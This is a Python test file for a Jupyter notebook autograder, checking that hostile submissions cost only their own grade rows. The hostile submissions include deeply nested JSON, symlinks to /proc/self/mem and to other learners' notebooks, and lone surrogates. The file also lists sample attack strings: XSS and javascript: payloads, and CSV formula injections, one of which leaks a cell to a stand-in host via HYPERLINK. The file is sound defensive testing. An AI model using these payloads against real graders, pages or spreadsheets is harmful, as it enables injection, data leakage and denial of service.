"""Hostile *files* against the grader: one bad file costs one row, and no file is followed.

An outside attacker found that one submission could stop the whole class's
grading (no grades.csv for anyone) or hold it up, read the source or another
learner's work through a symbolic link, and write into the feedback page and into
grades.csv. Each attack here is one learner of ONE grading run (``--jobs 2``, the
tiny numpy-only course of test_grading_adversarial.py), beside honest victims:

- a notebook whose ``cells`` is a list nested 100,000 deep (json: RecursionError);
- an exercise expression 50,000 attributes deep (``ast.parse``: RecursionError);
- a notebook that is a symbolic link to ``/proc/self/mem`` (``read_bytes``: EIO);
- a lone surrogate in an exercise cell, and a learner folder whose name is not
  UTF-8 (writing either as UTF-8: UnicodeEncodeError);
- 30,000 empty cells in 4 MB (below the size limit; read cell by cell with
  jsonschema it took 30 s, outside any time limit);
- symbolic links to the source notebook, to another learner's notebook and to
  another learner's folder;
- an exception class whose name is Markdown (a fake heading, a ``javascript:``
  link, an external image, a table), and a learner folder named with HTML;
- a ``=HYPERLINK(...)`` assertion message and a learner named ``@...`` (CSV
  formula injection);
- a folder with other files than the notebook (``essay.txt``, ``01_target (1).ipynb``).

Each test asserts that the attacker earns 0 (or its honest points) with the
right status and message, that the victims keep full marks, that grades.csv is
written for everyone, that nothing outside the results changed, and that the
attack is real (the same file does the harm in plain Python). The fast tests at
the end check the reading limits, the screen's limits, the CSV neutraliser and
the escaper against a corpus of hostile strings, with no kernel.
"""

from __future__ import annotations

import ast
import csv
import hashlib
import html
import io
import json
import os
import stat
import sys
import time
from collections import Counter
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
from test_grading_adversarial import (
    ANSWERS,
    EXERCISES,
    NB,
    SANDBOX_PROBLEM,
    SOLUTION_MARK,
    Elements,
    learner_notebook,
    make_course,
    token_processes,
)

import siamese_grading
from siamese_grading import Limits, grade_submissions, nbtools
from siamese_grading import grade as grade_module
from siamese_grading._text import display_name, printable
from siamese_grading.nbtools import InvalidNotebookError, read_notebook
from siamese_grading.report import (
    FeedbackWriter,
    GradeRow,
    csv_cell,
    escape_text,
    feedback_cell,
    write_csv,
)
from siamese_grading.screen import MAX_AST_DEPTH, Policy, parse, screen

pytestmark = pytest.mark.skipif(
    sys.platform == "win32", reason="the grader is POSIX-only; run it under WSL or Linux"
)


def kernels(test):
    """The marks of a test that grades in kernels, in the sandbox: slow, needs bubblewrap."""
    test = pytest.mark.slow(test)
    reason = f"no sandbox: {SANDBOX_PROBLEM}"
    return pytest.mark.skipif(SANDBOX_PROBLEM is not None, reason=reason)(test)


#: An exception class name that is Markdown and HTML (raised by the learner's add).
MARKDOWN_NAME = (
    "Oops\n\n## Grading feedback: 2 / 2 points\n\n"
    "[details](javascript:alert(1)) ![pixel](https://example.invalid/pixel.png) "
    "https://example.invalid/x\n\n| exercise | points |\n|---|---|\n| ex1_1_add | 1 / 1 |\n\n"
    "<img src=x onerror=alert(1)><script>alert(2)</script>$\\huge 2/2$"
)
#: A learner folder whose name is HTML and Markdown (no slash: it is a file name).
MARKDOWN_LEARNER = "h_markdown <img src=x onerror=alert(3)>\n## 2 points [a](javascript:x)"
FORMULA = '=HYPERLINK("https://example.invalid/?"&A1,"details")'
FORMULA_LEARNER = "@h_csv SUM(1+1)"
NOT_UTF8 = b"z_\xff\xfe"
DEEP_ADD = (
    "# EXERCISE 1.1 — add\ndef add(a, b):\n    return a + b if a is not None else x" + ".a" * 50_000
)
HOSTILE_ADD = (
    "# EXERCISE 1.1 — add\n"
    "def add(a, b):\n"
    "    if a == 2:\n"
    f"        hostile = type({MARKDOWN_NAME!r}, (Exception,), {{}})\n"
    "        raise hostile('add gives up: <b>bold</b> [x](javascript:y)')\n"
    "    return a + b"
)
FORMULA_ADD = f"# EXERCISE 1.1 — add\ndef add(a, b):\n    raise AssertionError({FORMULA!r})"
FORMULA_MUL = "# EXERCISE 1.2 — multiply\ndef mul(a, b):\n    raise AssertionError('-1+1')"


def nested_cells_text(depth: int = 100_000) -> str:
    """A notebook whose ``cells`` is a list nested ``depth`` deep (200 kB for 100,000)."""
    return (
        '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": '
        + "[" * depth
        + "]" * depth
        + "}"
    )


def many_cells_text(count: int = 30_000) -> str:
    """A valid notebook of ``count`` empty code cells (4.1 MB for 30,000), as Jupyter writes it."""
    cell = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": []}
    nb = {
        "cells": [{**cell, "id": f"c{i}", "source": []} for i in range(count)],
        "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    return json.dumps(nb, indent=1) + "\n"


def tree_state(folder: Path) -> dict[bytes, str]:
    """Every entry under ``folder`` (names as bytes), never following a link.

    A file gives its mode and the sha256 of its bytes, a link its target, anything
    else its mode: a link to /proc/self/mem is recorded, not read.
    """
    state: dict[bytes, str] = {}
    root = os.fsencode(folder)
    for top, dirs, files in os.walk(root):
        for name in dirs + files:
            path = os.path.join(top, name)
            info = os.lstat(path)
            key = os.path.relpath(path, root)
            if stat.S_ISLNK(info.st_mode):
                state[key] = "link " + os.fsdecode(os.readlink(path))
            elif stat.S_ISREG(info.st_mode):
                with open(path, "rb") as file:
                    state[key] = f"file {info.st_mode:o} " + hashlib.sha256(file.read()).hexdigest()
            else:
                state[key] = f"other {info.st_mode:o}"
    return state


def write_json_ascii(path, nb) -> None:
    """Write ``nb`` as nbformat does, but with ASCII escapes (a lone surrogate survives)."""
    Path(path).write_text(json.dumps(nb, ensure_ascii=True, indent=1), encoding="ascii")


# --------------------------------------------------------------------------- the run


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Every hostile file and three honest learners, graded in one run (--jobs 2)."""
    base = tmp_path_factory.mktemp("hostile")
    src, student_dir, site = make_course(base)
    student = nbformat.read(student_dir / NB, as_version=4)
    subs, out = base / "submissions", base / "out"
    both = {"add": ANSWERS["ex1_1_add"], "mul": ANSWERS["ex1_2_mul"]}

    def folder(name) -> Path:
        path = (
            subs / name if isinstance(name, str) else Path(os.fsdecode(bytes(subs) + b"/" + name))
        )
        path.mkdir(parents=True)
        return path

    def write(name, nb) -> Path:
        path = folder(name) / NB
        nbformat.write(nb, path)
        return path

    for victim in ("z_victim_1", "z_victim_2"):
        write(victim, learner_notebook(student, **both))
    write(NOT_UTF8, learner_notebook(student, **both))  # honest, with a name that is not UTF-8
    (folder("h_nested_cells") / NB).write_text(nested_cells_text(), encoding="utf-8")
    write("h_deep_ast", learner_notebook(student, add=DEEP_ADD, mul=ANSWERS["ex1_2_mul"]))
    os.symlink("/proc/self/mem", folder("h_proc_mem") / NB)
    write_json_ascii(
        folder("h_surrogate") / NB,
        learner_notebook(student, add=ANSWERS["ex1_1_add"] + "\n# \ud800", mul=both["mul"]),
    )
    long_name = "h_many_cells_" + "x" * 230  # also a name too long for a folder of its own
    (folder(long_name) / NB).write_text(many_cells_text(), encoding="utf-8")
    os.symlink(f"../../src/{NB}", folder("h_link_source") / NB)
    os.symlink(f"../z_victim_1/{NB}", folder("h_link_other") / NB)
    os.symlink("z_victim_2", subs / "h_link_folder")
    write(MARKDOWN_LEARNER, learner_notebook(student, add=HOSTILE_ADD))
    write(FORMULA_LEARNER, learner_notebook(student, add=FORMULA_ADD, mul=FORMULA_MUL))
    extras = folder("h_extras")
    nbformat.write(learner_notebook(student, **both), extras / "01_target (1).ipynb")
    nbformat.write(learner_notebook(student, **both), extras / "Copy of 01_target.ipynb")
    (extras / "essay.txt").write_text("my essay", encoding="utf-8")

    grader = Path(siamese_grading.__file__).parent
    watched = {"src": src, "subs": subs, "site": site, "grader": grader}

    def states():
        return {
            name: {k: v for k, v in tree_state(path).items() if b"__pycache__" not in k}
            for name, path in watched.items()
        }

    before = states()
    lines: list[str] = []
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PYTHONPATH", str(site))
        started = time.monotonic()
        report = grade_submissions(
            subs,
            src,
            out,
            limits=Limits(timeout=60, cell_timeout=30, scratch_bytes=16 * 2**20),
            jobs=2,
            log=lines.append,
        )
        seconds = time.monotonic() - started
    after = states()
    with open(out / "grades.csv", newline="", encoding="utf-8") as file:
        raw_rows = list(csv.reader(file))
    table: dict[str, dict[str, dict]] = {}
    header = raw_rows[0]
    for values in raw_rows[1:]:
        row = dict(zip(header, values, strict=True))
        table.setdefault(row["learner"], {})[row["exercise"]] = row
    return {
        "base": base,
        "src": src,
        "subs": subs,
        "out": out,
        "report": report,
        "table": table,
        "raw_rows": raw_rows,
        "lines": lines,
        "seconds": seconds,
        "long_name": long_name,
        "changed": {name: before[name] != after[name] for name in watched},
        "survivors": token_processes(),
    }


def assert_contained(group, learner: str, points=("0", "0")) -> dict[str, dict]:
    """What every test asserts; returns the learner's rows (keyed by exercise)."""
    table = group["table"]
    mine = table[learner]
    assert sorted(mine) == sorted(EXERCISES)
    assert tuple(mine[e]["points"] for e in EXERCISES) == points, mine
    for victim in ("z_victim_1", "z_victim_2"):
        assert {e: (r["status"], r["points"]) for e, r in table[victim].items()} == {
            "ex1_1_add": ("passed", "1"),
            "ex1_2_mul": ("passed", "1"),
        }, victim
    assert len(table) == 14  # every learner of the class has rows in grades.csv
    assert all(len(rows) == 2 for rows in table.values())
    assert group["changed"] == dict.fromkeys(group["changed"], False)
    assert group["survivors"] == []
    return mine


def page_of(group, learner: str) -> str:
    return (group["out"] / "feedback" / learner / "01_target.html").read_text("utf-8")


# ---------------------------------------------------------------- one file stops the class


@kernels
def test_cells_nested_100000_deep_cost_one_row(hostile):
    path = hostile["subs"] / "h_nested_cells" / NB
    with pytest.raises(RecursionError):  # the attack: plain Python cannot read it
        json.loads(path.read_text("utf-8"))
    assert path.stat().st_size == 200_063
    mine = assert_contained(hostile, "h_nested_cells")
    for row in mine.values():
        assert row["status"] == "invalid-notebook"
        assert row["message"] == (
            "nested more than 64 levels deep (lists in lists...), so not a notebook"
        )
    assert "0 / 2 points" in page_of(hostile, "h_nested_cells")


@kernels
def test_an_expression_50000_attributes_deep_is_refused_and_the_rest_graded(hostile):
    with pytest.raises(RecursionError):  # the attack: Python's own parser gives up
        ast.parse(DEEP_ADD)
    mine = assert_contained(hostile, "h_deep_ast", points=("0", "1"))
    add = mine["ex1_1_add"]
    assert add["status"] == "refused"
    assert add["message"] == (
        "not run, the exercise cell is nested more than 100 levels deep (RecursionError), "
        "more than the grader reads; write it more simply"
    )
    assert mine["ex1_2_mul"]["status"] == "passed"  # one bad exercise costs its own row
    page = page_of(hostile, "h_deep_ast")
    assert "more characters not shown" in page  # 100 kB of code, cut on the page
    assert len(page) < 2**20


@kernels
def test_a_link_to_proc_self_mem_is_not_read(hostile):
    link = hostile["subs"] / "h_proc_mem" / NB
    with pytest.raises(OSError) as raised:  # the attack: reading it plainly fails (EIO)
        link.read_bytes()
    assert raised.value.errno == 5
    mine = assert_contained(hostile, "h_proc_mem")
    for row in mine.values():
        assert (row["status"], row["message"]) == ("invalid-notebook", nbtools.SYMLINK_REASON)


@kernels
def test_a_lone_surrogate_in_an_exercise_cell_costs_one_row(hostile):
    path = hostile["subs"] / "h_surrogate" / NB
    sources = [c["source"] for c in json.loads(path.read_text("ascii"))["cells"]]
    hit = [s for s in sources if "\ud800" in "".join(s)]
    with pytest.raises(UnicodeEncodeError):  # the attack: it cannot be written as UTF-8
        "".join(hit[0]).encode("utf-8")
    mine = assert_contained(hostile, "h_surrogate")
    for row in mine.values():
        assert row["status"] == "invalid-notebook"
        assert row["message"].startswith("cell ") and "lone surrogate" in row["message"]


@kernels
def test_a_folder_name_that_is_not_utf8_is_graded_and_shown_escaped(hostile):
    name = os.fsdecode(NOT_UTF8)
    assert name in os.listdir(hostile["subs"])
    with pytest.raises(UnicodeEncodeError):  # the attack: the name cannot be written as UTF-8
        name.encode("utf-8")
    shown = "z_\\xff\\xfe"  # the literal backslash text
    mine = assert_contained(hostile, shown, points=("1", "1"))  # its honest points
    assert {row["status"] for row in mine.values()} == {"passed"}
    assert any(
        line.startswith("[") and f" {shown}/01_target.ipynb: 2/2" in line
        for line in hostile["lines"]
    )
    page = page_of(hostile, shown)
    assert f"<b>{shown}</b>" in html.unescape(page)
    assert (hostile["out"] / "feedback" / shown).is_dir()


@kernels
def test_30000_empty_cells_are_refused_at_once(hostile):
    long_name = hostile["long_name"]
    path = hostile["subs"] / long_name / NB
    assert 3_900_000 < path.stat().st_size < nbtools.MAX_NOTEBOOK_BYTES  # not refused by size
    content = json.loads(path.read_text("utf-8"))
    assert content["nbformat"] == 4 and len(content["cells"]) == 30_000
    mine = assert_contained(hostile, long_name)
    for row in mine.values():
        assert row["status"] == "invalid-notebook"
        assert row["message"] == "the notebook has 30,000 cells, more than the limit of 5,000"
    with pytest.raises(InvalidNotebookError):  # by count, before any cell is built
        read_notebook(path)
    folder = grade_module.feedback_folder(long_name)
    assert len(folder) == 73 and folder.startswith("h_many_cells_")
    assert (hostile["out"] / "feedback" / folder / "01_target.html").is_file()


@kernels
def test_the_whole_class_is_graded_in_reasonable_time(hostile):
    assert len(hostile["table"]) == 14
    assert hostile["seconds"] < 120  # 6 notebooks run (about 3 s each on 2 busy cores)
    assert hostile["report"].rows and (hostile["out"] / "grades.csv").is_file()


# --------------------------------------------------------------------------- other learners' work


@kernels
@pytest.mark.parametrize(
    ("learner", "target"),
    [("h_link_source", "source"), ("h_link_other", "z_victim_1")],
)
def test_a_link_to_the_source_or_another_learner_is_not_followed(hostile, learner, target):
    link = hostile["subs"] / learner / NB
    real = hostile["src"] / NB if target == "source" else hostile["subs"] / target / NB
    assert link.read_bytes() == real.read_bytes()  # the attack: read plainly, it is their file
    assert target != "source" or SOLUTION_MARK in link.read_text("utf-8")
    mine = assert_contained(hostile, learner)
    for row in mine.values():
        assert (row["status"], row["message"]) == ("invalid-notebook", nbtools.SYMLINK_REASON)
    page = page_of(hostile, learner)
    assert SOLUTION_MARK not in page and "return a + b" not in page and "return a * b" not in page


@kernels
def test_a_learner_folder_that_is_a_link_is_not_followed(hostile):
    link = hostile["subs"] / "h_link_folder"
    assert (link / NB).read_bytes() == (hostile["subs"] / "z_victim_2" / NB).read_bytes()
    mine = assert_contained(hostile, "h_link_folder")
    for row in mine.values():
        assert (row["status"], row["message"]) == (
            "invalid-notebook",
            grade_module.FOLDER_LINK_REASON,
        )
    assert "return a + b" not in page_of(hostile, "h_link_folder")


@kernels
def test_other_files_in_a_learner_folder_are_named_in_the_rows(hostile):
    mine = assert_contained(hostile, "h_extras")
    for row in mine.values():
        assert row["status"] == "missing"
        assert row["message"] == (
            "notebook not submitted; found: '01_target (1).ipynb', "
            "'Copy of 01_target.ipynb', 'essay.txt'"
        )
    assert "skipped h_extras/essay.txt: not a notebook" in hostile["lines"]


# --------------------------------------------------------------------------- injection


TAGS = {"a", "img", "table", "tr", "td", "th", "script", "link", "iframe", "object", "embed"}
TAGS |= {"form", "input", "svg", "style", "base", "meta", "p", "b", "i", "code", "ul", "ol"}
TAGS |= {f"h{i}" for i in range(1, 7)}


def elements(page: str) -> Counter:
    """The elements of a page that could show or do something: (tag, attributes) counted."""
    parser = Elements()
    parser.feed(page)
    return Counter(
        (tag, tuple(sorted(attrs.items()))) for tag, attrs, _ in parser.found if tag in TAGS
    )


def old_feedback_markdown(message: str) -> str:
    """The grading table as the grader wrote it before: html.escape only."""
    return (
        '<table class="tex2jax_ignore">\n<tr><th>Message</th></tr>\n'
        f"<tr><td>{html.escape(message)}</td></tr>\n</table>\n\nnote"
    )


@kernels
def test_markdown_in_an_exception_name_and_a_folder_name_stays_text(hostile):
    shown = display_name(MARKDOWN_LEARNER)
    assert shown == MARKDOWN_LEARNER.replace("\n", "\\n")
    mine = assert_contained(hostile, shown)
    add = mine["ex1_1_add"]
    assert add["status"] == "error"
    expected = printable(f"{MARKDOWN_NAME}: add gives up: <b>bold</b> [x](javascript:y)")
    assert add["message"] == expected  # the raw name reached the row, as one line
    page = page_of(hostile, shown)
    # The attack without the defence: the same text, escaped the old way, makes a heading.
    old = FeedbackWriter().exporter.from_notebook_node(
        new_notebook(
            cells=[new_markdown_cell(old_feedback_markdown(add["message"].replace("\\n", "\n")))]
        )
    )[0]
    assert any(tag == "h2" for tag, _ in elements(old)) and "javascript:alert(1)" in str(
        elements(old)
    )
    # With it: exactly the elements of an honest learner's page of the same notebook.
    assert elements(page) == elements(page_of(hostile, "z_victim_1"))
    text = html.unescape(page)
    assert expected in text and shown in text  # shown, as text
    assert 'example.invalid/pixel.png"' not in page and 'href="javascript' not in page


@kernels
def test_formulas_in_messages_and_names_are_neutralised_in_grades_csv(hostile):
    learner = "'" + FORMULA_LEARNER
    mine = assert_contained(hostile, learner)
    assert (mine["ex1_1_add"]["status"], mine["ex1_1_add"]["message"]) == ("failed", "'" + FORMULA)
    assert (mine["ex1_2_mul"]["status"], mine["ex1_2_mul"]["message"]) == ("failed", "'-1+1")
    submitted = nbformat.read(hostile["subs"] / FORMULA_LEARNER / NB, as_version=4)
    assert any(FORMULA in cell.source for cell in submitted.cells)  # raised by its own code
    rows = hostile["report"].rows  # the grader's own rows keep the raw text
    assert any(r.message == FORMULA for r in rows)
    for values in hostile["raw_rows"]:
        for value in values:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), values
    assert "\n" not in "".join(v for values in hostile["raw_rows"] for v in values)


# --------------------------------------------------------------------------- fast: reading


@pytest.fixture
def folder(tmp_path):
    nb = new_notebook(cells=[new_code_cell("x = 1")])
    nbformat.write(nb, tmp_path / "ok.ipynb")
    return tmp_path


def test_read_notebook_refuses_cells_nested_too_deep_for_python(folder):
    path = folder / "deep.ipynb"
    path.write_text(nested_cells_text(), encoding="utf-8")
    with pytest.raises(RecursionError):
        json.loads(path.read_text("utf-8"))
    with pytest.raises(InvalidNotebookError, match="nested more than 64 levels deep"):
        read_notebook(path)


@pytest.mark.parametrize("depth", [65, 500, 5_000])
def test_read_notebook_refuses_metadata_nested_deeper_than_the_limit(folder, depth):
    """Deep nbgrader metadata is refused; other metadata is not kept at all (see below)."""
    meta = '{"nbgrader": ' + '{"a": [' * depth + "{}" + "]}" * depth + "}"  # not json.dumps
    text = '{"nbformat": 4, "cells": [{"cell_type": "code", "source": "", "metadata": %s}]}'
    text %= meta
    (folder / "m.ipynb").write_text(text, encoding="utf-8")
    with pytest.raises(InvalidNotebookError, match="nested more than 64 levels deep"):
        read_notebook(folder / "m.ipynb")


def test_read_notebook_keeps_only_nbgrader_metadata(folder):
    """A submission's other metadata is never used, so a huge or deep one costs nothing."""
    junk = "[" + ",".join(["{}"] * 10_000) + "]"
    text = (
        '{"nbformat": 4, "metadata": {"x": ' + junk + '}, "cells": [{"cell_type": "code", '
        '"source": "y", "metadata": {"nbgrader": {"grade_id": "g"}, "z": ' + junk + "}}]}"
    )
    (folder / "m.ipynb").write_text(text, encoding="utf-8")
    nb = read_notebook(folder / "m.ipynb")
    assert dict(nb.metadata) == {} and dict(nb.cells[0].metadata) == {"nbgrader": {"grade_id": "g"}}


def test_read_notebook_refuses_too_many_json_values_before_parsing(folder, monkeypatch):
    """A 15 MB file of empty objects costs the parser gigabytes: refused by a count first."""
    values = ",".join(["{}"] * (nbtools.MAX_CONTAINERS + 1))
    text = '{"nbformat": 4, "cells": [], "metadata": {"x": [' + values + "]}}"
    (folder / "m.ipynb").write_text(text, encoding="utf-8")
    monkeypatch.setattr(nbtools.json, "loads", lambda *a, **k: pytest.fail("parsed"))
    with pytest.raises(InvalidNotebookError, match="JSON objects and arrays, more than"):
        read_notebook(folder / "m.ipynb")


def test_read_notebook_keeps_metadata_nested_within_the_limit(folder):
    meta: dict = {"nbgrader": {"grade_id": "x"}}
    for _ in range(20):
        meta = {"a": meta, "nbgrader": {"grade_id": "x"}}
    text = json.dumps(
        {
            "nbformat": 4,
            "metadata": {},
            "cells": [{"cell_type": "code", "source": "y", "metadata": meta}],
        }
    )
    (folder / "m.ipynb").write_text(text, encoding="utf-8")
    nb = read_notebook(folder / "m.ipynb")
    assert nb.cells[0].metadata.nbgrader.grade_id == "x" and nb.cells[0].source == "y"
    nbformat.validate(nb)


def test_read_notebook_is_bounded_in_cells_and_validates_no_cell(folder, monkeypatch):
    """30,000 cells are refused by count; 5,000 are read without jsonschema per cell.

    The old reader rebuilt every cell with nbformat's constructors, which validate it with
    jsonschema (about 30 s for 30,000 cells here): counting the constructors' validations
    shows that reading no longer does so. (How long it takes is measured, not asserted: timing
    goals belong in benchmarks, and machines differ.)
    """
    many = folder / "many.ipynb"
    many.write_text(many_cells_text(30_000), encoding="utf-8")
    with pytest.raises(InvalidNotebookError, match="30,000 cells, more than the limit of 5,000"):
        read_notebook(many)
    limit = folder / "limit.ipynb"
    limit.write_text(many_cells_text(nbtools.MAX_CELLS), encoding="utf-8")

    import nbformat.v4.nbbase

    calls = []
    real = nbformat.v4.nbbase.validate
    monkeypatch.setattr(nbformat.v4.nbbase, "validate", lambda *a, **k: calls.append(a))
    nb = read_notebook(limit)
    assert len(nb.cells) == nbtools.MAX_CELLS
    assert len(calls) <= 1, f"{len(calls)} validations for one notebook"  # at most the notebook
    for _ in range(3):  # the old way: every cell built by nbformat's constructors is validated
        new_code_cell(source="")
    assert len(calls) >= 3
    monkeypatch.setattr(nbformat.v4.nbbase, "validate", real)
    nbformat.validate(nb)  # valid by construction, checked once here


def test_read_notebook_refuses_a_lone_surrogate(folder):
    nb = new_notebook(cells=[new_code_cell("x = 1"), new_code_cell("y = '\ud800'")])
    write_json_ascii(folder / "s.ipynb", nb)
    with pytest.raises(InvalidNotebookError, match="^cell 1 holds a lone surrogate"):
        read_notebook(folder / "s.ipynb")


@pytest.mark.parametrize("target", ["/proc/self/mem", "ok.ipynb", "/dev/zero"])
def test_read_notebook_never_follows_a_link(folder, target):
    os.symlink(target, folder / "link.ipynb")
    if target == "ok.ipynb":
        assert read_notebook(folder / target).cells[0].source == "x = 1"  # the target reads
    with pytest.raises(InvalidNotebookError, match="^the file is a symbolic link; submit"):
        read_notebook(folder / "link.ipynb")


def test_read_notebook_refuses_pipes_folders_and_big_files_without_reading_them(
    folder, monkeypatch
):
    os.mkfifo(folder / "pipe.ipynb")  # opening it for reading would block
    with pytest.raises(InvalidNotebookError, match="not a regular file"):
        read_notebook(folder / "pipe.ipynb")
    with pytest.raises(InvalidNotebookError, match="not a regular file"):
        read_notebook(folder)
    monkeypatch.setattr(nbtools, "MAX_NOTEBOOK_BYTES", 10)
    with pytest.raises(InvalidNotebookError, match="more than the limit"):
        read_notebook(folder / "ok.ipynb")


@pytest.mark.parametrize(
    ("text", "match"),
    [
        ('{"nbformat": 3, "worksheets": []}', "format version '3'.*save it again"),
        ('{"nbformat": 4, "cells": {}}', "no list of cells"),
        ('{"nbformat": 4, "cells": [{"cell_type": "code", "source": 1}]}', "cell 0 has no text"),
        ('{"nbformat": 4, "cells": [[]]}', "cell 0 is malformed"),
        ("[" * 900 + "]" * 900, "JSON but not a Jupyter notebook"),
    ],
)
def test_read_notebook_gives_one_line_reasons(folder, text, match):
    (folder / "bad.ipynb").write_text(text, encoding="utf-8")
    with pytest.raises(InvalidNotebookError, match=match):
        read_notebook(folder / "bad.ipynb")


# --------------------------------------------------------------------------- fast: the screen


@pytest.mark.parametrize(
    ("source", "reason"),
    ids=["50000-attributes", "2000-attributes", "150-terms", "240000-characters"],
    argvalues=[
        ("def f(a):\n    return a" + ".b" * 50_000, "nested more than 100 levels deep (Recursion"),
        ("def f(a):\n    return a" + ".b" * 2_000, "nested more than 100 levels deep, more"),
        ("def f(a):\n    return " + "+".join(["a"] * 150), "nested more than 100 levels"),
        ("x = 1\n" * 40_000, "240,000 characters long, more than the grader reads (200,000)"),
    ],
)
def test_the_screen_refuses_code_it_cannot_read_with_one_line(source, reason):
    done = screen(source, Policy())
    assert not done.runs and done.code == ""
    assert len(done.refused) == 1 and reason in done.refused[0], done.refused
    assert "\n" not in done.refused[0]
    assert parse(source) is None  # and the assembler's reader never walks it


def test_the_screen_reports_null_bytes_and_reads_ordinary_depth():
    assert "null bytes" in screen("x = 1\0", Policy()).error
    ordinary = "def f(a):\n    return " + "+".join(["a"] * (MAX_AST_DEPTH - 10))
    assert screen(ordinary, Policy()).runs


# --------------------------------------------------------------------------- fast: CSV and HTML


#: Learner-controlled strings that would be markup, formulas or bad text.
HOSTILE = [
    MARKDOWN_NAME,
    MARKDOWN_LEARNER,
    FORMULA,
    "# heading",
    "## Grading feedback: 2 / 2 points",
    "[x](javascript:alert(1))",
    "![x](https://example.invalid/p.png)",
    "<https://example.invalid>",
    "www.example.invalid",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "</td></tr></table><h1>fake</h1><table><tr><td>",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<style>*{display:none}</style>",
    "&lt;b&gt; &amp; &#60;i&#62;",
    "line\n\n<h2>after a blank line</h2>",
    "\r\n\r\n# crlf heading",
    "    indented code block",
    "* list\n- item\n1. ordered",
    "> quote",
    "```\nfence\n```",
    "$$\\huge 2/2$$ and $x$",
    "\x1b]8;;https://example.invalid\x1b\\link\x1b]8;;\x1b\\ \x1b[31mred",
    "\ud800 lone \udcff surrogates",
    "\u202eright-to-left override",
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\uff1d1",
    " =1",
]


@pytest.mark.parametrize("value", HOSTILE, ids=range(len(HOSTILE)))
def test_csv_cell_neutralises_formulas_and_keeps_the_text(value):
    cell = csv_cell(value)
    assert "\n" not in cell and "\r" not in cell and cell.isprintable()
    if value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d")):
        assert cell == "'" + printable(value)
    else:
        assert cell == printable(value)
    cell.encode("utf-8")


def test_csv_cell_leaves_ordinary_values_alone():
    for value in ("alice", "add(2, 3) should be 5, got 0", "1.5", "0", "passed", "a-b", ""):
        assert csv_cell(value) == value


def test_write_csv_writes_one_safe_line_per_row(tmp_path):
    rows = [GradeRow(v, NB, "ex1_1_add", 0, 1, "failed", v, "none") for v in HOSTILE]
    write_csv(rows, tmp_path / "grades.csv")
    text = (tmp_path / "grades.csv").read_text("utf-8")
    assert len(text.splitlines()) == len(rows) + 1
    for values in list(csv.reader(io.StringIO(text)))[1:]:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in values), values


@pytest.fixture(scope="module")
def writer():
    return FeedbackWriter()


def test_escape_text_shows_every_hostile_string_as_text_on_the_page(writer, tmp_path):
    def page(values: list[str]) -> str:
        cells = []
        for value in values:
            row = GradeRow(value, value, value, 0, 1, value, value, "none")
            cells.append(feedback_cell(value, value, [row], "the grader's note"))
        writer.write(new_notebook(cells=cells), tmp_path / "page.html")
        return (tmp_path / "page.html").read_text("utf-8")

    hostile = page(HOSTILE)
    honest = page([f"plain text {i}" for i in range(len(HOSTILE))])
    assert elements(hostile) == elements(honest)  # not one element the grader did not make
    text = html.unescape(hostile)
    for value in HOSTILE:
        assert printable(value) in text, value
    for value in HOSTILE:
        escaped = escape_text(value)
        assert escaped.isascii() and "\n" not in escaped
        assert set(escaped) <= set(
            "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 /&#;"
        )
        assert html.unescape(escaped) == printable(value)


def test_display_name_is_printable_utf8_and_one_to_one():
    names = [
        os.fsdecode(NOT_UTF8),
        "z_\\xff\\xfe",
        "z_\\\\xff\\\\xfe",
        "a\nb",
        "a\\nb",
        "\u202eevil",
        "\\u202eevil",
        "\x1b[31m",
        os.fsdecode(b"\xed\xa0\x80"),  # a surrogate encoded as bytes: not UTF-8
        "\ud800",
        "\\ud800",
        "élève",
        "alice",
    ]
    shown = [display_name(n) for n in names]
    assert len(set(shown)) == len(names)
    assert shown[0] == "z_\\xff\\xfe" and shown[-2:] == ["élève", "alice"]
    for text in shown:
        assert text.isprintable()
        text.encode("utf-8")


def test_feedback_folder_is_a_valid_unique_name():
    long_a, long_b = "a" * 250, "a" * 249 + "b"
    folders = {grade_module.feedback_folder(n) for n in (long_a, long_b, "alice", "é" * 200)}
    assert len(folders) == 4
    assert all(len(f.encode("utf-8")) < 255 for f in folders)
    assert grade_module.feedback_folder("alice") == "alice"


def test_read_notebook_bounds_the_code_the_grader_reads_as_python(folder):
    cell = "def f(a, b):\n    return a + b * 2\n" * 5_500  # 187 kB: about a second to parse
    cells = [new_markdown_cell(cell) for _ in range(10)] + [new_code_cell(cell) for _ in range(5)]
    nb = new_notebook(cells=cells)
    nbformat.write(nb, folder / "markdown.ipynb")
    assert len(read_notebook(folder / "markdown.ipynb").cells) == 15  # markdown is not read
    nb.cells.append(new_code_cell(cell))
    nbformat.write(nb, folder / "code.ipynb")
    with pytest.raises(InvalidNotebookError, match="code cells hold more than 1,000,000"):
        read_notebook(folder / "code.ipynb")


def test_files_that_cannot_be_read_cost_their_own_rows_without_a_sandbox(tmp_path, monkeypatch):
    """The unreadable half of the class, graded without bubblewrap: no submission runs.

    (The start-up check still runs the source's set-up cell once, in a plain kernel.)
    """
    src, student_dir, site = make_course(tmp_path)
    monkeypatch.setenv("PYTHONPATH", str(site))
    student = nbformat.read(student_dir / NB, as_version=4)
    subs, out = tmp_path / "submissions", tmp_path / "out"
    for name in ("nested", "proc_mem", "surrogate", "many", "link", "extras"):
        (subs / name).mkdir(parents=True)
    (subs / "nested" / NB).write_text(nested_cells_text(), encoding="utf-8")
    os.symlink("/proc/self/mem", subs / "proc_mem" / NB)
    write_json_ascii(subs / "surrogate" / NB, learner_notebook(student, add="# \ud800"))
    (subs / "many" / NB).write_text(many_cells_text(), encoding="utf-8")
    os.symlink(src / NB, subs / "link" / NB)
    (subs / "extras" / "essay.txt").write_text("essay", encoding="utf-8")
